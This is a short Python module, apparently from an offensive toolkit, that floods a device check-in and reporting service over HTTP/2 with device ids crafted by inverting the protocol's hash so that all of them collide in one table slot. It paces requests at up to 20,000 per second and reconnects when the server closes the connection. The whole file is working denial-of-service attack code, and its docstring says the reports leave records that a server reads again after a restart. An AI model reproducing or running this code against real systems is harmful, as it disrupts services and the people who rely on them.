"""Devices whose ids all fall on one place of a table that hashes them by the protocol's own mix: check-ins, and reports,
which begin records that a restart reads again."""
import raw_device
import raw_h2

POINT = 6
RATE = 20000  # requests a second at most
GROUP = 250


def chosen(number):
    """The number-th id of one shard (top bits 0) and one place there (low bits 0), whatever the table's size."""
    return raw_device.unmix((number + 1) << 32 & (1 << 58) - 1)


def attack(target, stop, count=None):
    """Until stopped, or `count` ids were sent."""
    counts = {"checkins": 0, "reports": 0, "refused": 0, "closed": 0}
    text = raw_device.profile()
    pace = raw_device.Pace(RATE * target.share, stop)
    number = first = target.seed % 4096 << 13  # of 2^26 that meet there
    while not stop.is_set() and (count is None or number - first < count):
        try:
            with raw_device.Requests(target.h2c or target.tls, tls=target.h2c is None) as requests:
                while not stop.is_set() and (count is None or number - first < count):
                    pace.wait(2 * GROUP)
                    ids = [chosen(number + i) for i in range(GROUP)]
                    streams = [requests.report(device) for device in ids] + [requests.checkin(device, text) for device in ids]
                    answers = requests.settle(streams)
                    counts["reports"] += GROUP
                    counts["checkins"] += GROUP
                    counts["refused"] += sum(status not in (200, 204) for status in answers.values())
                    number += GROUP
        except (raw_h2.Closed, OSError):
            counts["closed"] += 1
            stop.wait(0.1)
    return counts
